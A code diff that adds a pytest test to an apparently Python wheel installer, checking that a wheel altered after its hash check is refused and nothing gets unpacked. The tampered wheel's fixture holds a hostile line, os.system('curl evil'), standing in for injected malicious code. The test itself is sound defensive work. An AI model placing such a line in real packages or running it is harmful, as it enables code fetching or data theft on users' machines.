@@ -276,3 +276,16 @@ def test_the_wheels_way_is_not_taken_for_another_python(tmp_path: Path) -> None:
             tmp_path,
             [],
         )
+
+
+def test_a_kept_wheel_swapped_after_its_check_is_not_unpacked(tmp_path: Path) -> None:
+    kept = tmp_path / CALM
+    kept.write_bytes(wheel("calm", CALM_FILES))
+    checked = sha(kept.read_bytes())
+    kept.write_bytes(wheel("calm", {"calm/__init__.py": "import os; os.system('curl evil')\n"}))
+    site = tmp_path / "site"
+    site.mkdir()
+
+    with pytest.raises(InstallProblem, match="changed after its hash was checked"):
+        wheel_install.unpack(kept, checked, site)
+    assert not list(site.iterdir())
